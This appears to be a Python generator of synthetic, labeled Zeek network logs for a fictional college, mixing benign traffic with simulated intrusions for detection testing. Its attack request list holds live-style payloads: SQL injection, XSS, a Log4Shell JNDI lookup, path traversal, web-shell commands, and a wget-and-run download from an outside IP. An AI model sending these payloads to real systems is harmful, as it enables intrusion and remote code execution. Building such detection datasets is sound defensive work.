"""Zeek's logs of what is inside connections (names, HTTP, TLS, files, SMB, Kerberos, SSH, DCE-RPC) of a college, half as TSV and half as JSON.

Daily work: TLS and HTTP of browsers and programs, names, files, shares, tickets, administrators by SSH, remote calls. Attacks: beacons,
names as a channel, requests that try known holes, guessed SSH passwords, shares read and written, roasted tickets, services made from
afar, files fetched. It is not training material: it was written by a hand that did not know the training scenarios, and its events are
not looked at by whoever decides on rules, scenarios or features.
"""
from __future__ import annotations

from typing import Any, Dict, Optional

from .people import CRAWLERS, LAST_NAMES, browsers_until
from .site import Site, epoch

START = epoch(2022, 9, 12)
DAYS = 4


def day_hour(day, hour):
    return START + day * 86400 + hour * 3600


DC = "172.18.1.5"
FS = "172.18.1.9"
WEB = "172.18.5.20"
SCANNER = "172.18.1.99"
MAIL = "172.18.5.25"
COLUMNS = {"dns": "ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto trans_id rtt query qclass qclass_name qtype qtype_name rcode rcode_name AA TC RD RA Z answers TTLs rejected",
           "http": "ts uid id.orig_h id.orig_p id.resp_h id.resp_p trans_depth method host uri referrer version user_agent origin request_body_len response_body_len status_code status_msg info_code info_msg tags username password proxied orig_fuids orig_filenames orig_mime_types resp_fuids resp_filenames resp_mime_types",
           "ssl": "ts uid id.orig_h id.orig_p id.resp_h id.resp_p version cipher curve server_name resumed last_alert next_protocol established cert_chain_fuids client_cert_chain_fuids subject issuer client_subject client_issuer validation_status ja3 ja3s",
           "files": "ts fuid tx_hosts rx_hosts conn_uids source depth analyzers mime_type filename duration local_orig is_orig seen_bytes total_bytes missing_bytes overflow_bytes timedout parent_fuid md5 sha1 sha256 extracted",
           "smb_files": "ts uid id.orig_h id.orig_p id.resp_h id.resp_p fuid action path name size prev_name times.modified times.accessed times.created times.changed",
           "kerberos": "ts uid id.orig_h id.orig_p id.resp_h id.resp_p request_type client service success error_msg from till cipher forwardable renewable client_cert_subject",
           "ssh": "ts uid id.orig_h id.orig_p id.resp_h id.resp_p version auth_success auth_attempts direction client server cipher_alg mac_alg compression_alg kex_alg host_key_alg host_key",
           "dce_rpc": "ts uid id.orig_h id.orig_p id.resp_h id.resp_p rtt named_pipe endpoint operation"}


def tsv(value):
    if value is None:
        return "-"
    if value is True:
        return "T"
    if value is False:
        return "F"
    if isinstance(value, list):
        return ",".join(str(item) for item in value) or "(empty)"
    if isinstance(value, float):
        return f"{value:.6f}"
    return str(value) or "(empty)"


QUERY_TYPES = {"A": 1, "AAAA": 28, "TXT": 16, "PTR": 12, "SRV": 33, "MX": 15, "HTTPS": 65, "NULL": 10, "CNAME": 5}
SERVERS = [("outlook.office365.com", "CN=outlook.com,O=Microsoft Corporation,L=Redmond,ST=Washington,C=US",
            "CN=DigiCert Cloud Services CA-1,O=DigiCert Inc,C=US", "52.97"), ("www.google.com", "CN=www.google.com",
    "CN=GTS CA 1C3,O=Google Trust Services LLC,C=US", "142.250"), ("slack.com", "CN=slack.com", "CN=R3,O=Let's Encrypt,C=US", "3.68"),
           ("github.com", r"CN=github.com,O=GitHub\, Inc.,L=San Francisco,ST=California,C=US",
            "CN=DigiCert TLS Hybrid ECC SHA384 2020 CA1,O=DigiCert Inc,C=US", "140.82"),
           ("v10.events.data.microsoft.com", "CN=*.events.data.microsoft.com,OU=WSE,O=Microsoft,L=Redmond,ST=WA,C=US",
            "CN=Microsoft Azure TLS Issuing CA 01,O=Microsoft Corporation,C=US", "20.42"), ("fonts.gstatic.com", None, None, "142.251"),
           ("www.bbc.co.uk", "CN=www.bbc.com,O=BRITISH BROADCASTING CORPORATION,C=GB",
            "CN=GlobalSign RSA OV SSL CA 2018,O=GlobalSign nv-sa,C=BE", "151.101"),
           (None, "CN=UniFi,OU=UniFi,O=Ubiquiti Inc.,L=New York,ST=New York,C=US",
            "CN=UniFi,OU=UniFi,O=Ubiquiti Inc.,L=New York,ST=New York,C=US", "172.18.1"),
           ("vcenter.lab.local", "CN=vcenter.lab.local,C=US", "CN=CA,DC=vsphere,DC=local,C=US,ST=California,O=vcenter", "172.18.1"),
           ("ws.zoom.us", "CN=*.zoom.us,O=Zoom Video Communications", "CN=DigiCert TLS RSA SHA256 2020 CA1,O=DigiCert Inc,C=US",
            "170.114")]
NAMES = ["outlook.office365.com", "www.google.com", "teams.microsoft.com", "wpad.lab.local", "_ldap._tcp.dc._msdcs.lab.local",
         "settings-win.data.microsoft.com", "e13630.dscb.akamaiedge.net", "safebrowsing.googleapis.com", "ntp.ubuntu.com",
         "api.segment.io", "connectivitycheck.gstatic.com", "fs01.lab.local"]
UAS = browsers_until(106, ["104.0.0.0", "105.0.0.0"])


def marks(group: str, technique: str):
    return dict(label=1, group=group, technique=technique)


CONTROL = ["185.130.47.58", "104.156.149.6", "46.161.40.172"]
WEB_ATTACKS = ["/courses?id=1%27%20UNION%20SELECT%201,user_login,user_pass%20FROM%20wp_users--%20-",
               "/search?q=%3Cscript%3Ealert(document.domain)%3C/script%3E", "/wp-content/plugins/revslider/../../../wp-config.php",
               "/?s=${jndi:ldap://46.161.40.172/a}", "/wp-content/uploads/2022/09/wso.php?cmd=id",
               "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/wp-json/wp/v2/users?per_page=100", "/.env", "/phpmyadmin/index.php",
               "/wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php",
               "/shell?cd+/tmp;wget+http://46.161.40.172/bins.sh;sh+bins.sh", "/boaform/admin/formLogin", "/backup.sql",
               "/wp-login.php", "/xmlrpc.php"]


class ZeekApplications(Site):
    """Zeek's application logs of a college."""

    name = "zeek_applications"
    host = "zeek-sensor"
    sourcetype = "zeek"
    seed = 2121

    def build(self) -> None:
        self.prepare()
        self.encrypted()
        self.names()
        self.web()
        self.files_seen()
        self.shares()
        self.tickets()
        self.shells()
        self.calls()
        self.struck()
        self.beacons()
        self.names_as_channel()
        self.known_holes()
        self.movement()
        self.fetched()

    def daily(self):
        return self.moment(START, DAYS)

    def uid(self):
        return "C" + self.token(17)

    def fuid(self):
        return "F" + self.token(17)

    def log_line(self, at: float, log, values, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None) -> None:
        values = {"ts": at, **values}
        if self.rng.random() < 0.5:
            self.add(at, "\t".join(tsv(values.get(column)) for column in COLUMNS[log].split()), label, group, technique, "zeek-sensor",
                     f"bro:{log}")
        else:
            self.add(at, {column: round(values[column], 6) if isinstance(values[column], float) else values[column]
                          for column in COLUMNS[log].split() if values.get(column) is not None}, label, group, technique, "zeek-sensor",
                     f"bro:{log}:json")

    def ids(self, source, destination, port) -> Dict[str, Any]:
        return {"uid": self.uid(), "id.orig_h": source, "id.orig_p": self.rng.randint(32768, 65500), "id.resp_h": destination,
                "id.resp_p": port}

    def dns(self, at: float, source, query, kind: str = "A", code: str = "NOERROR", answers=None, server=DC, **more: Any) -> None:
        self.log_line(at, "dns", {**self.ids(source, server, 53), "proto": "udp", "trans_id": self.rng.randint(1, 65535),
                                  "rtt": self.rng.random() * 0.09 if code == "NOERROR" else None, "query": query, "qclass": 1,
                                  "qclass_name": "C_INTERNET", "qtype": QUERY_TYPES[kind], "qtype_name": kind,
                                  "rcode": 0 if code == "NOERROR" else 3, "rcode_name": code, "AA": False, "TC": False, "RD": True,
                                  "RA": code == "NOERROR", "Z": 0, "answers": answers,
                                  "TTLs": [float(self.rng.choice([5, 30, 60, 300, 3600]))] * len(answers) if answers else None,
                                  "rejected": False}, **more)

    def http(self, at: float, source, destination, method: str, site_name, uri, agent: str, status: int = 200, ref=None, request: int = 0,
             response=None, mime: str = "text/html", port: int = 80, file_name=None, user: Optional[str] = None, **more: Any) -> None:
        self.log_line(at, "http", {**self.ids(source, destination, port), "trans_depth": self.rng.choice([1, 1, 1, 2, 3]),
                                   "method": method, "host": site_name, "uri": uri, "referrer": ref, "version": "1.1",
                                   "user_agent": agent, "request_body_len": request,
                                   "response_body_len": response if response is not None else int(self.rng.lognormvariate(8, 1.7)),
                                   "status_code": status, "status_msg": {200: "OK", 304: "Not Modified", 404: "Not Found",
            403: "Forbidden", 302: "Found", 301: "Moved Permanently", 500: "Internal Server Error", 206: "Partial Content",
            401: "Unauthorized"}.get(status, "OK"), "tags": [], "username": user, "resp_fuids": [self.fuid()] if mime else None,
                                   "resp_filenames": [file_name] if file_name else None, "resp_mime_types": [mime] if mime else None,
                                   "orig_fuids": [self.fuid()] if request else None, "orig_mime_types": ["text/plain"] if request
                                   else None}, **more)

    def ssl(self, at: float, source, destination, server_name, subject=None, issuer=None, version: str = "TLSv12", port: int = 443,
            validity: str = "ok", client_print=None, established: bool = True, **more: Any) -> None:
        self.log_line(at, "ssl", {**self.ids(source, destination, port), "version": version,
                                  "cipher": "TLS_AES_128_GCM_SHA256" if version == "TLSv13"
                                  else self.choice(["TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384",
            "TLS_RSA_WITH_AES_256_GCM_SHA384"]), "curve": self.choice(["x25519", "secp256r1"]), "server_name": server_name,
                                  "resumed": self.rng.random() < 0.3, "established": established,
                                  "next_protocol": self.choice([None, "h2"]), "cert_chain_fuids": [self.fuid(), self.fuid()] if subject
                                  else None, "subject": subject, "issuer": issuer, "validation_status": validity if subject else None,
                                  "ja3": client_print or self.choice(self.client_prints), "ja3s": self.choice(self.server_prints)},
                      **more)

    def files(self, at: float, sender, receiver, medium, mime, file_name, size, **more: Any) -> None:
        self.log_line(at, "files", {"fuid": self.fuid(), "tx_hosts": [sender], "rx_hosts": [receiver], "conn_uids": [self.uid()],
                                    "source": medium, "depth": 0, "analyzers": ["SHA1", "MD5"] if self.rng.random() < 0.8 else [],
                                    "mime_type": mime, "filename": file_name, "duration": self.rng.random() * 2,
                                    "local_orig": sender.startswith("172.18"), "is_orig": self.rng.random() < 0.2, "seen_bytes": size,
                                    "total_bytes": size if self.rng.random() < 0.7 else None, "missing_bytes": 0, "overflow_bytes": 0,
                                    "timedout": False, "md5": self.hex(32), "sha1": self.hex(40)}, **more)

    def smb_file(self, at: float, source, destination, action, path: str, name: str, size=None, **more: Any) -> None:
        self.log_line(at, "smb_files", {**self.ids(source, destination, 445), "fuid": None, "action": action, "path": path,
                                        "name": name, "size": size if size is not None else int(self.rng.lognormvariate(9, 2)),
                                        "times.modified": at - 900000.0, "times.accessed": at - 100, "times.created": at - 2000000.0,
                                        "times.changed": at - 900000.0}, **more)

    def kerberos(self, at: float, source, kind, client, service: str, ok: bool = True, error=None, cipher: str = "aes256-cts-hmac-sha1-96",
                 **more: Any) -> None:
        self.log_line(at, "kerberos", {**self.ids(source, DC, 88), "request_type": kind, "client": client + "/LAB.LOCAL",
                                       "service": service, "success": ok, "error_msg": error, "till": 2136422885.0,
                                       "cipher": cipher if ok else None, "forwardable": True, "renewable": True}, **more)

    def ssh(self, at: float, source, destination, ok, client, attempts, **more: Any) -> None:
        self.log_line(at, "ssh", {**self.ids(source, destination, 22), "version": 2, "auth_success": ok, "auth_attempts": attempts,
                                  "direction": "INBOUND" if not source.startswith("172.") else None, "client": client,
                                  "server": "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5", "cipher_alg": "chacha20-poly1305@openssh.com",
                                  "mac_alg": "umac-64-etm@openssh.com", "compression_alg": "none", "kex_alg": "curve25519-sha256",
                                  "host_key_alg": "ecdsa-sha2-nistp256", "host_key": ":".join(["9f"] * 16)}, **more)

    def remote_call(self, at: float, source, destination, pipe, endpoint, operation, **more: Any) -> None:
        self.log_line(at, "dce_rpc", {**self.ids(source, destination, self.choice([445, 135, 49667])), "rtt": self.rng.random() * 0.01,
                                      "named_pipe": pipe, "endpoint": endpoint, "operation": operation}, **more)

    def prepare(self) -> None:
        """Who and what is there."""
        self.workstations = [f"172.18.{self.rng.choice([20, 21])}.{self.rng.randint(10, 240)}" for _ in range(36)]
        self.client_prints = [self.hex(32) for _ in range(8)]
        self.server_prints = [self.hex(32) for _ in range(10)]

    def encrypted(self) -> None:
        """TLS."""
        for _ in range(400):
            site = self.choice(SERVERS)
            self.ssl(self.daily(), self.choice(self.workstations), self.address(site[3]), site[0],
                     *((site[1], site[2]) if self.rng.random() < 0.5 else (None, None)), version="TLSv12" if self.rng.random() < 0.5
                     else "TLSv13",
                     validity=self.weighted([("ok", 9), ("unable to get local issuer certificate", 1)]) if "172" not in site[3]
                     else "self signed certificate", established=self.rng.random() > 0.04)

    def names(self) -> None:
        """Names."""
        for _ in range(420):
            query = self.weighted([(self.choice(NAMES), 9), (f"d{self.token(13).lower()}.cloudfront.net", 1),
                                   (f"{self.rng.randint(1, 254)}.{self.rng.randint(1, 21)}.18.172.in-addr.arpa", 1),
                                   (self.token(10).lower(), 0.4), (f"{self.hex(40)}.hash.sophosxl.net", 0.3),
                                   (f"{self.choice(['www', 'shop'])}.{self.choice(LAST_NAMES)}.co.uk", 1)])
            code = self.weighted({"NOERROR": 9, "NXDOMAIN": 1})
            kind = "PTR" if "arpa" in query else self.weighted({"A": 7, "AAAA": 3, "HTTPS": 1, "TXT": 0.3, "SRV": 0.3})
            self.dns(self.daily(), self.choice(self.workstations + [MAIL]), query, kind, code, [self.address()] if code == "NOERROR"
                     and kind == "A" else None)

    def web(self) -> None:
        """HTTP."""
        for _ in range(300):
            client = self.choice(self.workstations)
            pick = self.choice([(client, self.address("8.247"), "GET", "ctldl.windowsupdate.com",
                                 f"/msdownload/update/v3/static/trustedr/en/authrootstl.cab?{self.hex(16)}", "Microsoft-CryptoAPI/10.0",
                                 304, None), (client, self.address("93.184"), "POST", "ocsp.digicert.com", "/",
                                              "Microsoft-CryptoAPI/10.0", 200, "application/ocsp-response"),
                                (client, self.address("91.189"), "GET", "archive.ubuntu.com", "/ubuntu/dists/jammy-updates/InRelease",
                                 "Debian APT-HTTP/1.3 (2.4.7)", self.choice([200, 304]), "text/plain"),
                                (self.address(), WEB, "GET", "www.lakeside-college.example",
                                 self.choice(["/", f"/courses?id={self.rng.randint(1, 90)}",
                                              f"/search?q={self.choice(['o%27brien', 'select+courses', 'art+%26+design'])}",
                                              "/wp-content/themes/lake/style.css", "/favicon.ico", "/wp-admin/admin-ajax.php"]),
                                 self.choice(UAS + CRAWLERS[:6]), self.weighted({200: 8, 404: 1, 301: 1}), "text/html"),
                                (self.address(), WEB, "POST", "www.lakeside-college.example",
                                 self.choice(["/wp-login.php", "/contact", "/xmlrpc.php"]), self.choice(UAS), self.choice([200, 302]),
                                 "text/html"), (SCANNER, self.choice([WEB, FS]), "GET", WEB,
                                                self.choice(["/", "/admin/", "/cgi-bin/test-cgi", "/.git/HEAD",
                "/x/..%2f..%2fetc/passwd"]), "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)", 404, "text/html"),
                                (client, self.address("172.18.20"), "GET", "172.18.20.5", "/DevMgmt/ProductStatusDyn.xml", None, 200,
                                 "application/xml"),
                                (client, self.address(), "GET",
                                 self.choice(["detectportal.firefox.com", "www.msftconnecttest.com", "edgedl.me.gvt1.com"]),
                                 self.choice(["/success.txt?ipv4", "/connecttest.txt",
                                              f"/edgedl/release2/chrome_component/{self.token(27)}"]),
                                 self.choice(UAS + ["Microsoft NCSI"]), self.choice([200, 206]), "text/plain"),
                                (client, self.address(), "GET",
                                 "{}.{}.{}.{}".format(*tuple(self.rng.randint(11, 200) for _ in range(4))),
                                 self.choice(["/update.bin", "/fw/version.txt", "/stream"]),
                                 self.choice(["Dalvik/2.1.0 (Linux; U; Android 11; SM-A127F)", "VLC/3.0.16 LibVLC/3.0.16", None]), 200,
                                 "application/octet-stream")])
            self.http(self.daily(), pick[0], pick[1], pick[2], pick[3], pick[4], pick[5], pick[6], mime=pick[7],
                      request=self.rng.randint(60, 900) if pick[2] == "POST" else 0)

    def files_seen(self) -> None:
        """Files."""
        for _ in range(170):
            client = self.choice(self.workstations)
            pick = self.choice([("SSL", "application/x-x509-user-cert", None), ("HTTP", "text/html", None), ("HTTP", "image/png", None),
                                ("HTTP", "application/vnd.ms-cab-compressed", None),
                                ("SMB", "application/pdf", f"Handouts\\week{self.rng.randint(1, 12)}.pdf"),
                                ("HTTP", "application/x-dosexec", self.choice([None, "GoogleUpdateSetup.exe", "am_delta.exe"])),
                                ("SMB", "application/msword", r"Staff\rota.docx"), ("HTTP", "application/zip", "fonts.zip")])
            self.files(self.daily(), FS if pick[0] == "SMB" else self.address(), client, pick[0], pick[1], pick[2],
                       int(self.rng.lognormvariate(9, 2)))

    def shares(self) -> None:
        """Shares."""
        for _ in range(120):
            self.smb_file(self.daily(), self.choice(self.workstations), self.choice([FS, FS, DC]),
                          self.weighted({"SMB::FILE_OPEN": 9, "SMB::FILE_WRITE": 1, "SMB::FILE_RENAME": 0.5, "SMB::FILE_DELETE": 0.5,
                                         "SMB::FILE_READ": 2}),
                          f"\\\\fs01\\{self.choice(['staff', 'students', 'ADMIN$' if self.rng.random() < 0.05 else 'home'])}",
                          self.choice(["rota.docx", r"Handouts\week3.pdf", "desktop.ini", "<share_root>",
                                       r"lab.local\Policies\{31B2F340}\gpt.ini", "budget 22-23.xlsx", "thumbs.db"]))

    def tickets(self) -> None:
        """Tickets."""
        self.accounts = ["jhall", "mpatel", "bwhite", "lchen", "staff01", f"student{self.rng.randint(1, 90)}"]
        for _ in range(120):
            self.kerberos(self.daily(), self.choice(self.workstations),
                          *self.weighted([(("AS", self.choice(self.accounts), "krbtgt/LAB.LOCAL"), 3),
                                          (("TGS", self.choice(self.accounts),
                                            self.choice(["cifs/fs01", "ldap/dc01.lab.local", "host/ws12", "HTTP/intranet"])), 5)]),
                          *self.weighted([((True, None), 9), ((False, "KDC_ERR_PREAUTH_REQUIRED"), 2),
                                          ((False, "KDC_ERR_PREAUTH_FAILED"), 0.5)]),
                          cipher=self.weighted({"aes256-cts-hmac-sha1-96": 12, "rc4-hmac": 1}))

    def shells(self) -> None:
        """SSH."""
        for _ in range(40):
            self.ssh(self.daily(), self.choice(self.workstations[:4] + [SCANNER, self.address("86.3")]), self.choice([WEB, MAIL]),
                     self.rng.random() < 0.8,
                     self.choice(["SSH-2.0-OpenSSH_8.9p1", "SSH-2.0-PuTTY_Release_0.76", "SSH-2.0-libssh2_1.8.0",
                                  "SSH-2.0-WinSCP_release_5.21.3"]), self.rng.choice([1, 1, 2, 3]))

    def calls(self) -> None:
        """Remote calls."""
        for _ in range(70):
            self.remote_call(self.daily(), self.choice(self.workstations), self.choice([DC, FS]),
                             *self.choice([(r"\pipe\lsass", "lsarpc", "LsarLookupNames3"), ("135", "epmapper", "ept_map"),
                                           ("49667", "netlogon", "NetrLogonSamLogonEx"), (r"\pipe\srvsvc", "srvsvc", "NetrShareEnum"),
                                           (r"\pipe\spoolss", "spoolss", "RpcOpenPrinterEx"), (r"\pipe\samr", "samr", "SamrConnect5"),
                                           ("49667", "drsuapi", "DRSCrackNames"), (r"\pipe\wkssvc", "wkssvc", "NetrWkstaGetInfo")]))

    def struck(self) -> None:
        """Who is struck."""
        self.victim = self.workstations[3]
        self.second_victim = self.workstations[17]

    def beacons(self) -> None:
        """Beacons by TLS and HTTP."""
        for number in range(34):
            at = day_hour(0, 11) + number * self.rng.uniform(900, 7200)
            self.ssl(at, self.choice([self.victim, self.second_victim]), self.choice(CONTROL[:2]),
                     self.choice([None, "cdn-azureupd.com", "static-jquery.net"]),
                     *self.choice([(None, None), ("CN=cdn-azureupd.com", "CN=R3,O=Let's Encrypt,C=US"),
                                   ("O=Internet Widgits Pty Ltd,ST=Some-State,C=AU", "O=Internet Widgits Pty Ltd,ST=Some-State,C=AU"),
                                   ("CN=localhost", "CN=localhost"), ("CN=multimed.org,OU=,O=Global Security,L=London,ST=London,C=GB",
                "CN=multimed.org,OU=,O=Global Security,L=London,ST=London,C=GB")]), version="TLSv12",
                     port=self.weighted({443: 6, 8443: 1, 447: 1, 449: 1}),
                     validity=self.choice(["self signed certificate", "ok", "certificate has expired"]),
                     client_print=self.choice(["72a589da586844d7f0818ce684948eea", "51c64c77e60f3980eea90869b68c58a8",
                                               self.choice(self.client_prints), self.choice(self.client_prints)]),
                     **marks("c2_tls", "T1573"))
        for number in range(34):
            at = day_hour(0, 11) + number * self.rng.uniform(900, 7200)
            self.http(at, self.choice([self.victim, self.second_victim]), self.choice(CONTROL), self.weighted({"GET": 6, "POST": 3}),
                      self.choice([CONTROL[0], CONTROL[2], "static-jquery.net"]),
                      self.choice(["/jquery-3.3.1.min.js", f"/submit.php?id={self.digits(9)}", f"/{self.token(4)}",
                                   f"/rob{self.rng.randint(10, 99)}/{'WIN10-PC'}_W617601.{self.hex_upper(32)}/83/", "/images/flags.png",
                                   "/5/data_32/forum.php", "/ca", "/x86.dll", f"/sin/{self.hex(8)}.txt"]),
                      self.choice([UAS[0], "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)", "WinHTTP loader/1.0", "curl/7.74.0",
                                   None]), self.weighted({200: 8, 404: 1}), request=self.rng.choice([0, 0, 90, 3000]),
                      mime=self.choice(["application/octet-stream", "text/html", "application/x-dosexec", None]),
                      **marks("c2_http", "T1071.001"))

    def names_as_channel(self) -> None:
        """Names as a channel."""
        for number in range(46):
            self.dns(day_hour(1, 8) + number * self.rng.uniform(2, 900), self.second_victim,
                     self.weighted([(f"{self.hex(60)}.{self.hex(20)}.dl.zonestat.org", 3), (f"{self.token(40).lower()}.zonestat.org",
                2), ("".join(self.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(self.rng.randint(11, 17))) + self.choice([".com",
                ".eu", ".pw", ".biz"]), 4), ("cdn-azureupd.com", 0.5), ("static-jquery.net", 0.5)]),
                     self.weighted({"TXT": 3, "A": 4, "NULL": 0.6, "CNAME": 1}), self.weighted({"NOERROR": 4, "NXDOMAIN": 4}),
                     **marks("dns_c2", "T1071.004"))

    def known_holes(self) -> None:
        """Known holes, and SSH passwords guessed."""
        for _ in range(50):
            self.http(day_hour(self.rng.randrange(DAYS), self.rng.random() * 24),
                      self.choice([CONTROL[2], self.address(), self.address()]), WEB, self.weighted({"GET": 6, "POST": 4}),
                      self.choice(["www.lakeside-college.example", WEB]), self.choice(WEB_ATTACKS),
                      self.choice(UAS[:5] + ["python-requests/2.28.1", "sqlmap/1.6.8#stable (https://sqlmap.org)",
                                             "Mozilla/5.0 zgrab/0.x",
                                             "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"]),
                      self.weighted({404: 4, 200: 4, 403: 2, 500: 1}), request=self.rng.choice([0, 60, 300]),
                      **marks("web_attack", "T1190"))
        for number in range(36):
            self.ssh(day_hour(2, 1) + number * self.rng.uniform(2, 90),
                     self.choice([CONTROL[2], f"61.177.173.{self.rng.randint(1, 90)}"]), self.choice([WEB, MAIL]), number == 35,
                     self.choice(["SSH-2.0-Go", "SSH-2.0-libssh2_1.8.0", "SSH-2.0-libssh_0.9.6", "SSH-2.0-PUTTY"]),
                     self.rng.choice([1, 2, 3, 6]), **marks("ssh_brute", "T1110"))

    def movement(self) -> None:
        """Shares, tickets and services of others."""
        for number in range(30):
            self.smb_file(day_hour(2, 3) + number * self.rng.uniform(5, 900), self.victim, self.choice([FS, DC]),
                          self.weighted({"SMB::FILE_OPEN": 5, "SMB::FILE_WRITE": 3, "SMB::FILE_RENAME": 2, "SMB::FILE_DELETE": 1}),
                          self.choice([r"\\fs01\ADMIN$", r"\\dc01\C$", r"\\fs01\staff", r"\\dc01\IPC$", r"\\dc01\SYSVOL"]),
                          self.choice(["PSEXESVC.exe", f"Temp\\{self.token(6)}.dll", r"ProgramData\r.bat", "budget 22-23.xlsx.LOCKED",
                                       "README_HOWTO.txt", r"Windows\NTDS\ntds.dit", "__output",
                                       r"lab.local\Policies\{6AC1}\Machine\Preferences\Groups\Groups.xml", r"Windows\Temp\l.dmp"]),
                          **marks("lateral_smb", "T1021.002"))
        for number in range(30):
            self.kerberos(day_hour(1, 14) + number * self.rng.uniform(0.1, 200), self.victim,
                          *self.choice([("TGS", "jhall", self.choice(["MSSQLSvc/sql01.lab.local:1433", "HTTP/intranet", "svc_backup",
                "cifs/dc01.lab.local"])), ("AS", self.choice(self.accounts + ["administrator", "admin", "backup"]),
                                           "krbtgt/LAB.LOCAL")]),
                          *self.weighted([((True, None), 5), ((False, "KDC_ERR_PREAUTH_FAILED"), 3),
                                          ((False, "KDC_ERR_C_PRINCIPAL_UNKNOWN"), 2)]),
                          cipher=self.weighted({"rc4-hmac": 5, "aes256-cts-hmac-sha1-96": 1}), **marks("kerberos_abuse", "T1558.003"))
        for number in range(26):
            self.remote_call(day_hour(2, 2) + number * self.rng.uniform(3, 900), self.victim, self.choice([DC, FS]),
                             *self.choice([(r"\pipe\ntsvcs", "svcctl", "CreateServiceWOW64W"),
                                           (r"\pipe\ntsvcs", "svcctl", "StartServiceW"), (r"\pipe\atsvc", "ITaskSchedulerService",
                "SchRpcRegisterTask"), ("49667", "drsuapi", "DRSGetNCChanges"), (r"\pipe\samr", "samr", "SamrEnumerateUsersInDomain"),
                                           (r"\pipe\samr", "samr", "SamrGetMembersInGroup"), ("135", "IWbemServices", "ExecMethod"),
                                           (r"\pipe\lsass", "efsrpc", "EfsRpcOpenFileRaw"),
                                           (r"\pipe\spoolss", "spoolss", "RpcRemoteFindFirstPrinterChangeNotificationEx"),
                                           ("49667", "netlogon", "NetrServerAuthenticate2"),
                                           (r"\pipe\winreg", "winreg", "BaseRegSaveKey"),
                                           (r"\pipe\srvsvc", "srvsvc", "NetrSessionEnum")]), **marks("lateral_rpc", "T1569.002"))

    def fetched(self) -> None:
        """Files fetched."""
        for _ in range(14):
            self.files(day_hour(self.rng.choice([0, 1, 2]), 10 + self.rng.random() * 6), self.choice(CONTROL),
                       self.choice([self.victim, self.second_victim, WEB]), self.choice(["HTTP", "HTTP", "SMB", "FTP_DATA"]),
                       self.choice(["application/x-dosexec", "application/zip", "text/x-shellscript", "application/x-executable",
                                    "application/vnd.ms-office", "text/plain", "application/x-iso9660-image"]),
                       self.choice([None, "Invoice_0912.iso", "x86.dll", "bins.sh", "p.ps1", "document-37-1849.xls", "kinsing"]),
                       int(self.rng.lognormvariate(12, 1.4)), **marks("payload", "T1105"))
